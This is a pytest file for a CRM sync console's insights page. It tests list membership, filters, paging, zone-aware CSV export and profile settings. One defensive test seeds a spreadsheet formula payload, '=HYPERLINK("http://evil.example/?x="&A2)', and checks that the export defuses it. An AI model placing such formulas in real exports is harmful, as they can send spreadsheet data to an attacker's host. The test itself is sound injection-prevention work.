"""A profile's insights page as a logged-in user sees it, in-process against a SQLite warehouse seeded
with people and their activities: who lands in each list (and who must not), the filters, paging,
the CSV export (its header names the profile's zone), and the profile's first-call setting."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from crm_sync.pipeline import insights
from crm_sync.pipeline.people_search_keys import fold_name
from crm_sync.paths import PROJECT_ROOT
from crm_sync.profile import Insights, ProfileError, parse_profile, profile_by_name
from crm_sync.warehouse.tables import person, person_activity, review_candidate
from crm_sync.web import security, services
from crm_sync.web.app import create_app

DAG = "ghl_gymdesk"
NOW = datetime.now(UTC)
WEEK_START, WEEK_END = insights.week(NOW, UTC)


def _client(profile=None) -> TestClient:
    """The console with Airflow's login stood in for (tests/unit/test_console_access.py holds that the
    real dependencies refuse everyone else); ``profile`` in place of the DAG's own when given."""
    app = create_app()
    for depends in (*security.LOGGED_IN, *security.READ_DAG, *security.READ_RUNS):
        app.dependency_overrides[depends.dependency] = lambda: None
    app.dependency_overrides[security.may_read_task_logs] = lambda: False
    if profile is not None:
        app.dependency_overrides[services.profile_of] = lambda dag_id: profile
    return TestClient(app)


@pytest.fixture
def client(sqlite_warehouse):
    return _client()


def add_person(conn, name: str, *, status: str = "synced", seen_hours_ago: float = 72, lead_source: str | None = "web",
               ghl_id: str | None = None, app_id: str | None = None, phone: str | None = None,
               profile: str = "gymdesk") -> int:
    first, _, last = name.partition(" ")
    email = f"{first.lower()}@example.org"
    folded = fold_name(name)
    return conn.execute(sa.insert(person).returning(person.c.person_id), {
        "profile": profile, "ghl_id": ghl_id, "app_id": app_id, "first_name": first, "last_name": last,
        "email": email, "phone": phone, "lead_source": lead_source, "status": status,
        "first_seen": NOW - timedelta(hours=seen_hours_ago), "search_name": f"{folded} | {folded}",
        "search_email": email, "search_phone": (phone or "").lstrip("+"), "run_id": "r1", "updated_at": NOW,
    }).scalar_one()


def add_activity(conn, person_id: int | None, entity: str, title: str, at: datetime, status: str | None,
                 sides: str = "both", profile: str = "gymdesk") -> None:
    n = conn.execute(sa.select(sa.func.count()).select_from(person_activity)).scalar_one()
    conn.execute(sa.insert(person_activity), {
        "profile": profile, "entity": entity, "person_id": person_id, "ghl_id": f"g-{entity}-{n}",
        "app_id": f"a-{entity}-{n}" if sides == "both" else None, "sides": sides, "title": title, "status": status,
        "at_utc": at, "at_local": at.isoformat(), "zone": "UTC", "run_id": "r1", "updated_at": NOW})


@pytest.fixture
def people(sqlite_warehouse) -> dict[str, int]:
    day = timedelta(days=1)
    with sqlite_warehouse.begin() as conn:
        ids = {name: add_person(conn, name, **kw) for name, kw in {
            "Olga Overdue": {}, "Tom Tomorrow": {}, "Nina New": {"seen_hours_ago": 1}, "Max Missing": {},
            "Mia Member": {"lead_source": None}, "Dora Deleted": {"status": "deleted"},
            "José García": {"status": "ghl_only", "ghl_id": "g-jose", "phone": "+15550102030"},
            "Alma App": {"status": "app_only", "app_id": "a-alma"},
            "Rita Review": {"status": "review", "ghl_id": "g-rita"},
        }.items()}
        add_activity(conn, ids["Olga Overdue"], "task", "Call new lead", NOW - day, "open")
        add_activity(conn, ids["Tom Tomorrow"], "task", "Call new lead", NOW - 2 * day, "completed")
        add_activity(conn, ids["Tom Tomorrow"], "task", "Send the price list", NOW + day, "open", sides="app")
        add_activity(conn, None, "task", "Orphan follow-up", NOW - 3 * day, "open", sides="ghl")
        add_activity(conn, ids["Alma App"], "appointment", "Trial class", WEEK_START + timedelta(hours=30), "confirmed")
        add_activity(conn, ids["Alma App"], "appointment", "Cancelled class", WEEK_START + timedelta(hours=31),
                     "cancelled", sides="ghl")
        add_activity(conn, ids["Olga Overdue"], "appointment", "Next week's class", WEEK_END + timedelta(hours=1),
                     "confirmed")
        add_activity(conn, ids["Olga Overdue"], "appointment", "Last week's class", WEEK_START - timedelta(hours=1),
                     "confirmed")
        add_activity(conn, ids["Olga Overdue"], "appointment", "Removed class", WEEK_START + timedelta(hours=2),
                     "deleted")
        conn.execute(sa.insert(review_candidate), [
            {"profile": "gymdesk", "ghl_id": "g-rita", "app_id": "a-r1", "reason": "by email, another first name",
             "run_id": "r1"},
            {"profile": "gymdesk", "ghl_id": "g-other", "app_id": "a-r2", "reason": "by phone", "run_id": "r1"}])
        add_person(conn, "Olga Otherprofile", profile="gymflow")  # another profile's people never show
    return ids


def shown_names(page: str) -> list[str]:
    table = page[page.index('id="insight-rows"'):page.index("</table>", page.index('id="insight-rows"'))]
    return [cell.split(">")[1].split("<")[0] for cell in table.split('<a href="')[1:]]


def test_each_list_holds_the_right_people(client, people):
    page = client.get(f"/dags/{DAG}/insights")
    assert page.status_code == 200
    # overdue: Olga's open task due yesterday and a task whose contact is not known yet; not Tom's completed
    # first call, nor his task due tomorrow
    assert shown_names(page.text) == ["Olga Overdue"] and "Orphan follow-up" in page.text
    assert "contact not known yet" in page.text and "Send the price list" not in page.text
    assert f'href="/dags/{DAG}/people/{people["Olga Overdue"]}"' in page.text
    first_call = client.get(f"/dags/{DAG}/insights", params={"list": "first_call"}).text
    # not Tom (completed), Nina (first seen an hour ago), Mia (no lead source: never gets the task), Dora (deleted)
    assert sorted(shown_names(first_call)) == ["Alma App", "José García", "Max Missing", "Olga Overdue",
                                               "Rita Review"]
    week = client.get(f"/dags/{DAG}/insights", params={"list": "this_week"}).text
    assert "Trial class" in week and "Cancelled class" in week
    assert not any(title in week for title in ("Next week's class", "Last week's class", "Removed class"))
    one_side = client.get(f"/dags/{DAG}/insights", params={"list": "one_side"}).text
    assert shown_names(one_side) == ["José García", "Alma App"]
    review = client.get(f"/dags/{DAG}/insights", params={"list": "review"}).text
    assert shown_names(review) == ["Rita Review"]
    assert "ghl:g-rita / app:a-r1: by email, another first name" in review and "by phone" not in review
    for name, count in {"overdue": 2, "first_call": 5, "this_week": 2, "one_side": 2, "review": 1}.items():
        assert f'id="count-{name}">{count}</td>' in page.text, name
    assert "Olga Otherprofile" not in first_call
    waiting = list(csv.DictReader(io.StringIO(client.get(f"/dags/{DAG}/insights/review.csv").text)))
    assert [(row["name"], row["why it waits"]) for row in waiting] == [
        ("Rita Review", "ghl:g-rita / app:a-r1: by email, another first name")]


def test_a_first_call_still_open_and_one_never_made_are_told_apart(client, people):
    def names(status: str) -> list[str]:
        return shown_names(client.get(f"/dags/{DAG}/insights", params={"list": "first_call", "status": status}).text)

    assert names("open") == ["Olga Overdue"]
    assert "Olga Overdue" not in names("missing") and "Max Missing" in names("missing")


def test_the_filters_search_names_accent_aside_emails_phones_titles_and_status(client, people):
    def names(**params) -> list[str]:
        return shown_names(client.get(f"/dags/{DAG}/insights", params=params).text)

    assert names(list="one_side", q="JOSE garcia") == ["José García"]
    assert names(list="one_side", q="alma@example") == ["Alma App"]
    assert names(list="one_side", q="(555) 010-2030") == ["José García"]
    assert names(list="one_side", status="app_only") == ["Alma App"]
    assert names(list="one_side", status="nonsense") == ["José García", "Alma App"]  # no such status: no filter
    assert names(list="overdue", side="ghl") == [] and names(list="overdue", side="both") == ["Olga Overdue"]
    week = client.get(f"/dags/{DAG}/insights", params={"list": "this_week", "status": "cancelled"}).text
    assert "Cancelled class" in week and "Trial class" not in week
    assert "<option selected>cancelled</option>" in week and "<option>confirmed</option>" in week
    found = client.get(f"/dags/{DAG}/insights", params={"list": "overdue", "q": "orphan"}).text
    assert "Orphan follow-up" in found and "Olga Overdue" not in found
    nobody = client.get(f"/dags/{DAG}/insights", params={"list": "review", "q": "nobody"}).text
    assert "Nobody in this list matches these filters." in nobody and 'id="count-review">1<' in nobody


def test_a_list_is_paged_and_a_page_past_the_end_shows_the_last(client, people):
    def page(n: int) -> str:
        return client.get(f"/dags/{DAG}/insights", params={"list": "first_call", "per_page": 2, "page": n}).text

    pages = [shown_names(page(n)) for n in (1, 2, 3)]
    assert [len(names) for names in pages] == [2, 2, 1]
    assert sorted(sum(pages, [])) == ["Alma App", "José García", "Max Missing", "Olga Overdue", "Rita Review"]
    assert "3-4 of 5" in page(2) and 'rel="next"' in page(2) and 'rel="prev"' in page(2)
    assert shown_names(page(99)) == pages[2] and "5-5 of 5" in page(99)


def test_an_unknown_list_is_a_404_naming_the_lists(client, people):
    answer = client.get(f"/dags/{DAG}/insights", params={"list": "vip"})
    assert answer.status_code == 404 and "overdue, first_call, this_week, one_side, review" in answer.text
    assert client.get(f"/dags/{DAG}/insights/vip.csv").status_code == 404
    assert client.get("/dags/not_ours/insights").status_code == 404


def test_the_csv_holds_every_matching_row_times_in_the_profiles_zone(sqlite_warehouse):
    ny = ZoneInfo("America/New_York")
    profile = profile_by_name("gymdesk").model_copy(update={"timezone": "America/New_York"})
    start, _ = insights.week(NOW, ny)
    with sqlite_warehouse.begin() as conn:
        olga = add_person(conn, "Olga Overdue")
        add_activity(conn, olga, "appointment", "Trial, with a comma", start + timedelta(hours=26), "confirmed")
        for n in range(60):  # more than a page: the export ignores paging
            add_activity(conn, olga, "task", f"Task {n}", NOW - timedelta(hours=n + 1), "open")
    client = _client(profile)
    answer = client.get(f"/dags/{DAG}/insights/this_week.csv")
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == f'attachment; filename="{DAG}-this_week.csv"'
    header, *rows = list(csv.reader(io.StringIO(answer.text)))
    assert header == ["person_id", "name", "email", "phone", "appointment", "starts (America/New_York)", "status",
                      "in", "GHL appointment", "app appointment"]
    local = (start + timedelta(hours=26)).astimezone(ny)
    assert local.hour == 2 and rows == [[str(olga), "Olga Overdue", "olga@example.org", "", "Trial, with a comma",
                                         local.isoformat(timespec="minutes"), "confirmed", "both", "g-appointment-0",
                                         "a-appointment-0"]]
    tasks = list(csv.reader(io.StringIO(client.get(f"/dags/{DAG}/insights/overdue.csv").text)))
    assert len(tasks) == 61 and tasks[0][5] == "due (America/New_York)"
    assert [row[4] for row in tasks[1:3]] == ["Task 59", "Task 58"]  # most overdue first
    matching = list(csv.reader(io.StringIO(client.get(f"/dags/{DAG}/insights/overdue.csv",
                                                      params={"q": "task 1", "page": 2}).text)))
    assert sorted(row[4] for row in matching[1:]) == ["Task 1"] + [f"Task {n}" for n in range(10, 20)]
    page = client.get(f"/dags/{DAG}/insights", params={"list": "overdue", "q": "task 1"}).text
    assert f'href="/dags/{DAG}/insights/overdue.csv?q=task+1"' in page and "America/New_York" in page


def test_this_week_is_monday_to_sunday_in_the_profiles_zone(sqlite_warehouse):
    """Sunday 23:30 in New York is already Monday in UTC: for a New York shop it is last week."""
    wednesday = datetime(2026, 12, 2, 17, 0, tzinfo=UTC)
    ny = profile_by_name("gymdesk").model_copy(update={"timezone": "America/New_York"})
    utc = profile_by_name("gymdesk")
    sunday_night_ny = datetime(2026, 11, 30, 4, 30, tzinfo=UTC)  # Sunday 29 Nov 23:30 EST
    monday_morning_ny = datetime(2026, 11, 30, 5, 30, tzinfo=UTC)  # Monday 30 Nov 00:30 EST
    next_sunday_night_ny = datetime(2026, 12, 7, 4, 30, tzinfo=UTC)  # Sunday 6 Dec 23:30 EST
    with sqlite_warehouse.begin() as conn:
        who = add_person(conn, "Olga Overdue")
        for title, at in (("sunday", sunday_night_ny), ("monday", monday_morning_ny),
                          ("next sunday", next_sunday_night_ny)):
            add_activity(conn, who, "appointment", title, at, "confirmed")
    with sqlite_warehouse.connect() as conn:
        in_ny = insights.listed(conn, ny, "this_week", now=wednesday)["rows"]
        in_utc = insights.listed(conn, utc, "this_week", now=wednesday)["rows"]
    assert [row["title"] for row in in_ny] == ["monday", "next sunday"]
    assert [row["title"] for row in in_utc] == ["sunday", "monday"]


def test_the_first_call_hours_are_the_profiles(sqlite_warehouse):
    profile = profile_by_name("gymdesk")
    with sqlite_warehouse.begin() as conn:
        add_person(conn, "Dan Day", seen_hours_ago=30)
    with sqlite_warehouse.connect() as conn:
        assert insights.counts(conn, profile)["first_call"] == 1
        later = profile.model_copy(update={"insights": Insights(first_call_hours=48)})
        assert insights.counts(conn, later)["first_call"] == 0
        any_task = profile.model_copy(update={"insights": Insights(first_call_task="Welcome call")})
        assert any_task.first_call.title == "Welcome call" and any_task.first_call.only_if is None


def test_the_profiles_page_links_its_insights(client, people):
    assert f'href="/dags/{DAG}/insights">Insights</a>' in client.get(f"/dags/{DAG}").text


PROFILE = (PROJECT_ROOT / "include" / "profiles" / "gymdesk.yaml").read_text()  # new_contact_tasks: Call new lead, ...


def test_the_first_call_setting_defaults_to_the_first_new_contact_task_and_is_checked_when_read():
    assert "new_contact_tasks:" in PROFILE and "insights:" not in PROFILE
    profile = parse_profile(PROFILE, "shop.yaml")
    assert profile.insights.first_call_hours == 24 and profile.first_call.title == "Call new lead"
    assert profile.first_call.only_if == "lead_source"
    chosen = parse_profile(PROFILE + "insights: {first_call_hours: 2.5, first_call_task: Follow-up reminder}\n",
                           "shop.yaml")
    assert chosen.insights.first_call_hours == 2.5 and chosen.first_call.title == "Follow-up reminder"
    bare = parse_profile(re.sub(r"\n    new_contact_tasks:.*?\n(?=  task:)", "\n", PROFILE, flags=re.S), "shop.yaml")
    assert bare.first_call is None  # any task counts
    with pytest.raises(ProfileError, match=r"shop\.yaml: key 'insights\.first_call_hours': Input should be greater "
                                           r"than 0 \(got 0\)"):
        parse_profile(PROFILE + "insights: {first_call_hours: 0}\n", "shop.yaml")
    with pytest.raises(ProfileError, match=r"key 'insights\.first_call_task': String should have at least 1"):
        parse_profile(PROFILE + "insights: {first_call_task: ''}\n", "shop.yaml")
    with pytest.raises(ProfileError, match=r"key 'insights\.first_call_hour': Extra inputs are not permitted"):
        parse_profile(PROFILE + "insights: {first_call_hour: 3}\n", "shop.yaml")


def test_the_insights_need_the_dags_runs_as_the_review_queue_does():
    """The lists show people's records: a user who may see the DAG but not its runs sees none of them."""
    from crm_sync.web.routes import insights as routes, review

    assert routes.router.dependencies == review.router.dependencies == security.READ_RUNS
    paths = {route.path for route in create_app().routes}
    assert {"/dags/{dag_id}/insights", "/dags/{dag_id}/insights/{name}.csv"} <= paths


def test_a_name_or_title_written_as_a_formula_is_text_in_the_csv_and_a_phone_stays_a_phone(client, sqlite_warehouse):
    """A lead form lets anyone name themselves ``=HYPERLINK(...)``: the export must not hand a spreadsheet
    a formula (OWASP CSV injection); an E.164 phone keeps its ``+``."""
    with sqlite_warehouse.begin() as conn:
        evil = add_person(conn, '=HYPERLINK("http://evil.example/?x="&A2) Lead', status="ghl_only", ghl_id="g-evil",
                          phone="+15550109999")
        add_activity(conn, evil, "task", "@SUM(1+1) call back", NOW - timedelta(days=1), "open")
    rows = list(csv.reader(io.StringIO(client.get(f"/dags/{DAG}/insights/one_side.csv").text)))
    row = next(r for r in rows if any("HYPERLINK" in cell for cell in r))
    assert all(not cell.startswith(("=", "@", "-")) for cell in row), row
    assert "+15550109999" in row and any(cell.startswith("'=HYPERLINK(") for cell in row)
    overdue = client.get(f"/dags/{DAG}/insights/overdue.csv").text
    assert "'@SUM(1+1) call back" in overdue


@pytest.mark.parametrize("query", [{"page": 10**20}, {"q": "pat\x00"}])
def test_a_page_past_any_integer_or_a_nul_in_the_search_is_a_422_not_a_500(client, query):
    for path in (f"/dags/{DAG}/insights", f"/dags/{DAG}/people", f"/api/dags/{DAG}/people"):
        answer = client.get(path, params=query, headers={"Accept": "application/json"})
        assert answer.status_code == 422, (path, answer.status_code, answer.text[:300])
